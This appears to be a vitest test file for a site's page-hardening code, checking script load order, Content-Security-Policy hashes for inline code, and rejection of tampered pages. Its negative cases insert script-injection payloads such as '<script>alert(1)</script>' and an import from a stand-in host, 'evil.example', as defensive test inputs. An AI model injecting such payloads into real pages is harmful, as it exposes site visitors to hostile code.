import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { ownScriptHeader } from "../../app/own-script.ts";
import { everyPage } from "../../tests/browser/every-page.ts";
import { builtPages } from "../../tests/whole-site.ts";
import { documentOf, scriptlessDocumentOf, UnexpectedDocument } from "./document.ts";

/** What the framework really prints for a page, and what it says of our own script in it. */
async function printed(path: string): Promise<[string, string | null]> {
  const response = await builtPages(new Request(`https://octroi.example${path}`));
  return [await response.text(), response.headers.get(ownScriptHeader)];
}

const [page, own] = await printed("/fr/pricing");

test("no script is asked for before the page has loaded, and then every one that the framework wanted", () => {
  const wanted = new Set(page.match(/\/assets\/[\w.-]+\.js/g));
  expect(wanted.size).toBeGreaterThan(5);
  const { html } = documentOf(page, own);
  expect(html).not.toContain('rel="modulepreload"/>');
  expect(html).not.toMatch(/<link rel="modulepreload"/);
  expect(html).not.toMatch(/^import /m);
  expect(new Set(html.match(/\/assets\/[\w.-]+\.js/g))).toEqual(wanted);
});

test("every file is run on its own, and the one that hydrates the page last", () => {
  const entry = /import\("(\/assets\/entry[^"]+)"\);<\/script>/.exec(page)?.[1];
  const { html } = documentOf(page, own);
  const steps = [
    "for (const href of [",
    "await import(href)",
    "const route0 = await",
    `import("${entry}");\n};`,
  ];
  const positions = steps.map((step) => html.indexOf(step));
  expect(positions).not.toContain(-1);
  expect(positions).toEqual(positions.toSorted((a, b) => a - b));
});

test("everything else stays as it was", () => {
  const rest = (html: string) =>
    html
      .replace(/<link rel="modulepreload"[^>]*>/g, "")
      .replace(/<script type="module"[\s\S]*?<\/script>/, "");
  expect(rest(documentOf(page, own).html)).toBe(rest(page));
});

test.each([...everyPage, "/fr/crawlers/gptbot", "/en/crawlers/no-such", "/404/404"])(
  "what the framework prints for %s is recognized, and the policy allows it alone",
  async (path) => {
    const { html, policy } = documentOf(...(await printed(path)));
    const allowed = policy.match(/'sha256-[^']+'/g);
    const inline = [...html.matchAll(/<(script|style)(?! type="application\/ld)[^>]*>([\s\S]*?)<\/\1>/g)];
    const hashes = inline.map(
      ([, , code = ""]) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`,
    );
    expect(new Set(allowed)).toEqual(new Set(hashes));
  },
);

test.each([
  ["an injected script", (html: string) => html.replace("<main", "<script>alert(1)</script><main")],
  [
    "one that does not end as it should",
    (html: string) => html.replace("<main", "<SCRIPT>alert(1)</script x><main"),
  ],
  ["one with an address", (html: string) => html.replace("<main", '<script src="/x.js"></script><main')],
  ["one among the data", (html: string) => html.replace("enqueue(", "enqueue(alert(1),")],
  ["another script in the place of ours", (html: string) => html.replace("<script>(", "<script>alert(1);(")],
  ["a second style sheet", (html: string) => html.replace("<main", "<style>*{color:red}</style><main")],
  [
    "another import",
    (html: string) =>
      html.replace("import * as route0", 'import "https://evil.example/x.js";\nimport * as route0'),
  ],
  [
    "another spelling of the module script",
    (html: string) => html.replace('type="module" async=""', "async type=module"),
  ],
  ["no scripts at all", (html: string) => html.replace(/<script[\s\S]*?<\/script>/g, "")],
])("%s is an error, not a page", (_, change) => {
  const changed = change(page);
  expect(changed).not.toBe(page);
  expect(() => documentOf(changed, own)).toThrow(UnexpectedDocument);
});

test("a page that runs nothing may hold no script", () => {
  expect(() => scriptlessDocumentOf(page)).toThrow(UnexpectedDocument);
  const { policy } = scriptlessDocumentOf(page.replace(/<script[\s\S]*?<\/script>/g, ""));
  expect(policy.match(/'sha256-/g)).toHaveLength(1);
});
